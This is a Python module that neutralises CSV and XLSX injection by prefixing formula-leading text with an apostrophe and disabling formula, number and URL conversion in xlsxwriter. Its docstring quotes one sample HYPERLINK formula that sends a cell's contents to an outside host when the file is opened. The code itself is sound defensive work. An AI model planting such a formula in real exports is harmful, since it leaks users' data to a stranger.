"""Cells of a CSV or XLSX file a user downloads and opens in a spreadsheet.

A spreadsheet runs a cell that starts with `= + - @` (or a tab or carriage return before one) as a
formula: a name typed as `=HYPERLINK("http://…?"&A1,"点击")` in a roster would send a row to a
stranger when the error report or the audit export is opened (CSV injection, OWASP). Such a text
is written with a leading apostrophe in a CSV file, which shows it as text; numbers stay numbers.
An XLSX file stores each cell with its type: with XLSX_OPTIONS a text is always a string cell,
never run and shown exactly as typed.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# xlsxwriter: never turn a string into a formula, a number or a link.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def has_control_characters(value: str) -> bool:
    """Control, format or unassigned code points (Unicode categories C*): never in a name."""
    return any(unicodedata.category(ch).startswith("C") for ch in value)
